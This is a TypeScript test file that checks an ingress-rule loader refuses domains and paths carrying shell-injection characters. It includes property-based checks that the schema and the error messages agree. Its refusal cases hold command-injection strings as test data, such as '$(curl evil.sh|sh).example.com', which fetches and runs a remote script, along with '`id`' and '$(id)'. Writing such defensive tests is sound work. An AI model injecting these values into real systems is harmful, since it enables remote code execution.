// Issue 10.1: rule domains and paths are clean by construction. The schema holds `domain` to a host name and `path`
// to the characters the service accepts, checked after placeholders are filled in, so no rule URL (the `urls`
// output, the summary, the PR comment) can carry `$(`, a backtick, a quote, a space or a line break.
import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { loadIngressFile } from '../src/engine/ingress/load.js'
import { domainProblem, pathProblem } from '../src/engine/ingress/rule-values.js'
import { ruleUrls } from '../src/engine/ingress/urls.js'

const schema = JSON.parse(readFileSync(new URL('../schema/ingress.schema.json', import.meta.url), 'utf8'))
const ruleSchema = schema.properties.Rules.items.properties
const DOMAIN = new RegExp(ruleSchema.domain.pattern, 'u')
const PATH = new RegExp(ruleSchema.path.pattern, 'u')

const file = (rule: Record<string, unknown>) =>
  JSON.stringify({ IngressId: 1, Rules: [{ appId: 'app', containerPort: 80, domain: 'www.example.com', path: '/', ...rule }] })

function problemsAt(text: string, pointer: string, env: Record<string, string> = {}): string[] {
  const loaded = loadIngressFile(text, env)
  return loaded.ok ? [] : loaded.problems.filter(problem => problem.pointer === pointer).map(problem => problem.message)
}

describe('domain', () => {
  test.each(['www.example.com', 'example.com', 'localhost', 'pr-42.preview.example.com', 'xn--bcher-kva.example', '*.example.com', 'A1.B2', `${'a'.repeat(63)}.com`])(
    '%s is a host name',
    domain => expect(problemsAt(file({ domain }), '/Rules/0/domain')).toEqual([])
  )

  test.each([
    ['$(curl evil.sh|sh).example.com', /"\$"/],
    ['`id`.example.com', /"`"/],
    ['"quoted".example.com', /"\\""/],
    ["it's.example.com", /"'"/],
    ['a b.example.com', /U\+0020/],
    ['a\n.example.com', /U\+000A/],
    ['a_b.example.com', /"_"/],
    ['-a.example.com', /starts or ends with a hyphen/],
    ['a..example.com', /empty label/],
    ['example.com.', /empty label/],
    ['www.*.example.com', /leading "\*\."/],
    ['*', /leading "\*\."/],
    ['bücher.example', /"ü"|U\+00FC/],
    [`${'a'.repeat(64)}.com`, /longer than 63/]
  ])('%j is refused: %s', (domain, words) => {
    expect(problemsAt(file({ domain }), '/Rules/0/domain')).not.toEqual([])
    expect(domainProblem(domain)).toMatch(words)
  })

  test('a placeholder value is checked once filled in: a hostile branch name cannot become a domain', () => {
    const text = file({ domain: 'pr-${BRANCH}.example.com' })
    expect(problemsAt(text, '/Rules/0/domain', { BRANCH: 'x$(id)' })).not.toEqual([])
    expect(problemsAt(text, '/Rules/0/domain', { BRANCH: 'feature-1' })).toEqual([])
  })
})

describe('path', () => {
  test.each(['/', '/api', '/v1/users', '/sys/(.*)/(.*)/aaa', '/static/.*\\.js$', '/a%20b', "/x{2}[a-z]+|y", '/@me', '/a;b=c&d'])('%s is accepted', path =>
    expect(problemsAt(file({ path }), '/Rules/0/path')).toEqual([])
  )

  test.each([
    ['/$(id)', /"\$\("/],
    ['/${HOME}', /"\$\{"/],
    ['/`id`', /"`"/],
    ['/it\'s', /"'"/],
    ['/"x"', /"\\""/],
    ['/a b', /U\+0020/],
    ['/a\nb', /U\+000A/],
    ['/a\tb', /U\+0009/],
    ['/a#frag', /"#"/],
    ['/<script>', /"<"/],
    ['/café', /U\+00E9/]
  ])('%j is refused: %s', (path, words) => {
    expect(problemsAt(file({ path }), '/Rules/0/path')).not.toEqual([])
    expect(pathProblem(path)).toMatch(words)
  })

  test('the $ of a regular expression is fine, only $( and ${ are not', () => {
    expect(pathProblem('/api$')).toBeUndefined()
    expect(pathProblem('/a$b')).toBeUndefined()
  })
})

describe('the words and the schema agree', () => {
  const alphabet = fc.constantFrom(...'aZ9-._*~/%!$&()*+,;=:@?^|\\{}[]`\'" #<>\n\tü\u202e'.split(''))
  test('domainProblem finds a problem exactly when the schema pattern refuses (past the length limits)', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.oneof(alphabet, fc.constantFrom('.', 'a', 'b', '-', '*.')), minLength: 1, maxLength: 40 }), domain => {
        expect(domainProblem(domain) === undefined).toBe(DOMAIN.test(domain))
      }),
      { numRuns: 3000, seed: 101 }
    )
  })
  test('pathProblem finds a problem exactly when the schema pattern refuses (for paths starting with /)', () => {
    fc.assert(
      fc.property(fc.string({ unit: alphabet, maxLength: 30 }), rest => {
        const path = `/${rest}`
        expect(pathProblem(path) === undefined).toBe(PATH.test(path))
      }),
      { numRuns: 3000, seed: 102 }
    )
  })
})

test('no file the loader accepts gives a rule URL holding $(, ${, a backtick, a quote, whitespace or a line break', () => {
  const piece = fc.string({ unit: fc.constantFrom(...'ab1-.*/$(){}`\'" \n\r\t#;|&'.split('')), maxLength: 12 })
  fc.assert(
    fc.property(piece, piece, (domain, path) => {
      const loaded = loadIngressFile(file({ domain: `a${domain}`, path: `/${path}` }), {})
      if (!loaded.ok) return
      for (const url of ruleUrls(loaded.ingress)) expect(url).not.toMatch(/\$\(|\$\{|[`'"\s]/)
    }),
    { numRuns: 5000, seed: 103 }
  )
})

test('the schema says which characters a path may hold and why wildcards are limited', () => {
  expect(ruleSchema.path.description).toMatch(/regular-expression/)
  expect(ruleSchema.domain.description).toMatch(/"\*\."/)
})
